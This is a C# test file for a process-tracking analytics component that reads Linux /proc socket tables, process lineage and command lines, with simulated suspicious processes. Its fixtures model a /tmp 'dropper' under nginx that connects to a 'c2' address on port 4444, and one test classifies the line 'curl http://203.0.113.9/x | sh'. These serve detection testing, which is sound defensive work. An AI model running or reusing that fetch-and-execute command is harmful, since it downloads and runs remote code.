using Weft.Analytics;
using Weft.Conformance.Support;
using Weft.Host.Analytics.Processes;
using Weft.Host.Config;

namespace Weft.Conformance.HostTests;

/// <summary>What /proc says, in files as Linux 6.1 and 6.18 wrote them.</summary>
[Trait(Kind.Key, Kind.Corpus)]
public sealed class ProcfsTests : IDisposable
{
    private const string Tcp = """
          sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
           0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 41510 1 ffff888003b6d000 100 0 0 10 0
           1: 0100007F:1F90 0100007F:C350 01 00000000:00000000 00:00000000 00000000     0        0 41511 1 ffff888003b6d000 20 4 30 10 -1
           2: 0A000005:D431 097100CB:115C 02 00000001:00000000 01:00000064 00000001     0        0 41512 2 ffff888003b6d900 100 0 0 10 -1
           garbage
        """;

    private const string Tcp6 = """
          sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
           0: 00000000000000000000000000000000:01BB 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 41520 1 ffff888003b6d000 100 0 0 10 0
           1: 0000000000000000FFFF00000100007F:C350 0000000000000000FFFF00000100007F:1F90 01 00000000:00000000 00:00000000 00000000     0        0 41521 1 ffff888003b6d000 20 4 30 10 -1
           2: B80D0120000000000000000001000000:D431 B80D0120000000000000000009000000:01BB 01 00000000:00000000 00:00000000 00000000     0        0 41522 1 ffff888003b6d000 20 4 30 10 -1
        """;

    private readonly string _root = Directory.CreateTempSubdirectory("weft-analytics-proc-").FullName;

    [Fact]
    public void Addresses_of_both_families_states_and_inodes_are_read()
    {
        Assert.SkipUnless(BitConverter.IsLittleEndian, "the recording is of a little-endian machine");
        var sockets = new List<SocketEntry>();
        SocketTable.Parse(Tcp.Split('\n'), isTcp: true, sockets);
        SocketTable.Parse(Tcp6.Split('\n'), isTcp: true, sockets);
        Assert.Equal(
            [
                "41510 127.0.0.1:8080 server", "41511 127.0.0.1:8080 127.0.0.1:50000", "41512 5.0.0.10:54321 203.0.113.9:4444",
                "41520 :::443 server", "41521 127.0.0.1:50000 127.0.0.1:8080", "41522 2001:db8::1:54321 2001:db8::9:443",
            ],
            sockets.Select(socket => $"{socket.Inode} {socket.Local}:{socket.LocalPort} {(socket.IsServer ? "server" : $"{socket.Remote}:{socket.RemotePort}")}"));
    }

    [Fact]
    public void A_process_is_described_with_its_lineage_and_by_what_it_has_open()
    {
        Add(10, parent: 1, "/usr/sbin/nginx", "nginx: (master) x", ["nginx", "-c", "/etc/nginx/nginx.conf"], user: 0, "socket:[41510]", "/var/log/nginx/access.log");
        Add(20, parent: 10, "/tmp/dropper (deleted)", "dropper", ["/tmp/dropper", "--to=203.0.113.9"], user: 33, "socket:[41512]", "/dev/null");
        ProcessTracker tracker = Tracker();
        tracker.Rescan();
        tracker.Poll();

        ProcessInstance nginx = Assert.Single(tracker.Processes, process => process.Description.ProcessId == 10);
        Assert.Contains(new ProcessFeature(FeatureKind.Listen, "tcp/8080"), nginx.Features);
        Assert.Contains(new ProcessFeature(FeatureKind.File, "/var/log/*"), nginx.Features);
        ProcessInstance dropper = Assert.Single(tracker.Processes, process => process.Description.ProcessId == 20);
        Assert.Equal("/tmp/dropper", dropper.Description.Executable);
        Assert.Equal("/usr/sbin/nginx", dropper.Parent);
        Assert.Equal(33, dropper.Description.UserId);
        Assert.Contains(new ProcessFeature(FeatureKind.Connect, "c2 tcp/4444"), dropper.Features);
        Assert.Equal("203.0.113.9 port 4444", dropper.Peers["c2 tcp/4444"]);
        Assert.Contains(new ProcessFeature(FeatureKind.CommandLine, "--to"), dropper.Features);
    }

    [Fact]
    public void A_socket_that_was_there_before_its_process_was_known_still_finds_its_owner()
    {
        Add(10, parent: 1, "/usr/sbin/nginx", "nginx", ["nginx"], user: 0, "socket:[41510]");
        ProcessTracker tracker = Tracker();
        tracker.Rescan();
        tracker.Poll();
        Add(20, parent: 10, "/tmp/dropper", "dropper", ["dropper"], user: 33, "socket:[41512]");
        tracker.Rescan();
        tracker.Poll();
        Assert.Contains(tracker.Processes, process => process.Features.Any(feature => feature.Kind == FeatureKind.Connect && process.Description.ProcessId == 20));
    }

    [Fact]
    public void A_connection_that_somebody_else_opened_is_none_of_the_server_s()
    {
        Add(10, parent: 1, "/usr/sbin/nginx", "nginx", ["nginx"], user: 0, "socket:[41510]", "socket:[41511]");
        ProcessTracker tracker = Tracker();
        tracker.Rescan();
        tracker.Poll();
        Assert.DoesNotContain(tracker.Processes.Single().Features, feature => feature.Kind == FeatureKind.Connect);
    }

    [Fact]
    [Trait(Kind.Key, Kind.Hostile)]
    public void A_process_that_ends_while_it_is_looked_at_is_gone_and_nothing_else()
    {
        Add(10, parent: 1, "/usr/sbin/nginx", "nginx", ["nginx"], user: 0);
        File.Delete(Path.Combine(_root, "10", "exe"));
        ProcessTracker tracker = Tracker();
        tracker.Rescan();
        tracker.OnEvent(new ProcessEvent(ProcessEventKind.Exec, 99, 0));
        tracker.Poll();
        Assert.Empty(tracker.Processes);
        Assert.Equal(1, tracker.Missed);
    }

    [Fact]
    [Trait(Kind.Key, Kind.Hostile)]
    public void Processes_beyond_the_limit_are_counted_and_names_of_any_length_stay_within_theirs()
    {
        string name = "/" + string.Join('/', Enumerable.Repeat(new string('ä', 100), 10));
        Add(10, parent: 1, name, "x", ["x", new string('-', 5000)], user: 0);
        Add(11, parent: 1, "/bin/b", "b", ["b"], user: 0);
        ProcessTracker tracker = Tracker(maxProcesses: 1);
        tracker.Rescan();
        Assert.Equal(1, tracker.Refused);
        Assert.All(tracker.Processes.Single().Features, feature => Assert.InRange(System.Text.Encoding.UTF8.GetByteCount(feature.Name), 1, ProcessFeature.MaxNameBytes));
    }

    [Theory]
    [InlineData("nginx -c /etc/nginx/nginx.conf", "-c /etc/nginx/*")]
    [InlineData("head -30 /var/log/syslog", "-<value> /var/log/*")]
    [InlineData("gcc -L/usr/lib -O2 x.c", "-L -O <word>")]
    [InlineData("curl --max-time=5 https://example.com/a", "--max-time https://*")]
    [InlineData("sleep 60", "<number>")]
    public void Command_lines_for_one_purpose_have_one_shape(string line, string shape) =>
        Assert.Equal(shape, string.Join(' ', CommandLineShape.Of(line.Split(' '))));

    [Fact]
    public void A_program_handed_to_a_shell_as_text_is_known_by_its_first_word() =>
        Assert.Equal(["-c", "-c curl"], CommandLineShape.Of(["sh", "-c", "curl http://203.0.113.9/x | sh"]));

    public void Dispose() => Directory.Delete(_root, recursive: true);

    private ProcessTracker Tracker(int maxProcesses = 100)
    {
        var procfs = new Procfs(_root);
        Assert.True(TunnelAddress.TryParse("203.0.113.0", out TunnelAddress network));
        return new ProcessTracker(procfs, new ProcessScope(new ProcessWatchPlan()), new PeerGroups([new PeerGroupPlan("c2", [new NetworkAddress(network, 24)])]), maxProcesses);
    }

    private void Add(int process, int parent, string executable, string name, string[] arguments, int user, params string[] descriptors)
    {
        string folder = Directory.CreateDirectory(Path.Combine(_root, $"{process}")).FullName;
        _ = Directory.CreateDirectory(Path.Combine(folder, "fd"));
        _ = Directory.CreateDirectory(Path.Combine(folder, "net"));
        _ = Directory.CreateDirectory(Path.Combine(folder, "ns"));
        File.WriteAllText(Path.Combine(folder, "stat"), $"{process} ({name}) S {parent} {process} {process} 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 12345 0 0");
        File.WriteAllText(Path.Combine(folder, "status"), $"Name:\t{name}\nUid:\t0\t{user}\t0\t0\n");
        File.WriteAllText(Path.Combine(folder, "cmdline"), string.Join('\0', arguments) + '\0');
        File.WriteAllText(Path.Combine(folder, "cgroup"), "0::/system.slice/nginx.service\n");
        File.WriteAllText(Path.Combine(folder, "net", "tcp"), Tcp);
        File.WriteAllText(Path.Combine(folder, "net", "tcp6"), Tcp6);
        _ = File.CreateSymbolicLink(Path.Combine(folder, "exe"), executable);
        _ = File.CreateSymbolicLink(Path.Combine(folder, "ns", "net"), "net:[4026531840]");
        for (int i = 0; i < descriptors.Length; i++)
        {
            _ = File.CreateSymbolicLink(Path.Combine(folder, "fd", $"{i}"), descriptors[i]);
        }
    }
}
